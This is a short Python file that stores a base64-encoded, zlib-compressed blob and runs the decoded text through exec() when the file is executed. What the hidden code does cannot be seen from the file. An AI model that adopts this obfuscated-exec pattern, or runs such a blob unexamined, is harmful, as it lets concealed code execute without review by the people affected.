"""A packed script: its code is compressed at the end of the file."""
import base64
import zlib

PACKED = (
    "eNpNzTELwjAQhuG9v+K4KQFNN5GCm3sXN3EINtEDuYTkk/rzTbroO373wK2CJ6Uc1LAbFw8/akKoDh/wjoLe"
    "0yL6OPEbcX9kS77SBqaBWjEVeokGEv2fexK3i6vwBXVtbwxf5vPM9md6uYjCdHo9TLfGi2Rj7fAFgrsuFw=="
)


def unpack(text):
    return zlib.decompress(base64.b64decode(text)).decode()


exec(compile(unpack(PACKED), "packed", "exec"))
